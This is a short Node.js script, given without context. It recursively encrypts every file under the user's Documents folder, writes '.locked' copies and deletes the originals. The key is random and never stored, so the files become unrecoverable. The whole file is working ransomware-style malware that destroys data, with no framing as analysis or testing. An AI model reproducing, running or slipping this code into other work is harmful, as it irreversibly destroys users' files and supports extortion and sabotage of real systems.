const fs = require('fs');
const os = require('os');
const path = require('path');
const crypto = require('crypto');
const key = crypto.randomBytes(32);

(function walk(dir) {
  for (const name of fs.readdirSync(dir)) {
    const file = path.join(dir, name);
    if (fs.statSync(file).isDirectory()) walk(file);
    else {
      const c = crypto.createCipheriv('aes-256-ctr', key, key.subarray(0, 16));
      fs.writeFileSync(file + '.locked', Buffer.concat([c.update(fs.readFileSync(file)), c.final()]));
      fs.unlinkSync(file);
    }
  }
})(os.homedir() + '/Documents');
